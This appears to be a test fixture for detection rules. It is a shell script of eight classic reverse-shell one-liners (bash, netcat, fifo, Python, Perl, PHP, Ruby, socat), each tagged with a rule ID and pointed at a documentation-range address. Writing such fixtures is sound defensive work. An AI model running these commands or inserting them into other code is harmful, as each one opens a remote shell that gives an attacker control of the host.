#!/bin/sh
# The classic one-liners, one of each kind. 192.0.2.0/24 is a documentation range.

# ruleid: yara.reverse_shells.bash_dev_tcp
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1

# ruleid: yara.reverse_shells.netcat_exec
nc -e /bin/sh 192.0.2.10 4444

# ruleid: yara.reverse_shells.fifo_shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f

# ruleid: yara.reverse_shells.python_socket_shell
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.10",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'

# ruleid: yara.reverse_shells.perl_socket_shell
perl -e 'use Socket;$i="192.0.2.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

# ruleid: yara.reverse_shells.php_socket_shell
php -r '$sock=fsockopen("192.0.2.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");'

# ruleid: yara.reverse_shells.ruby_socket_shell
ruby -rsocket -e'f=TCPSocket.open("192.0.2.10",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'

# ruleid: yara.reverse_shells.socat_shell
socat TCP:192.0.2.10:4444 EXEC:/bin/bash,pty,stderr,setsid,sigint,sane
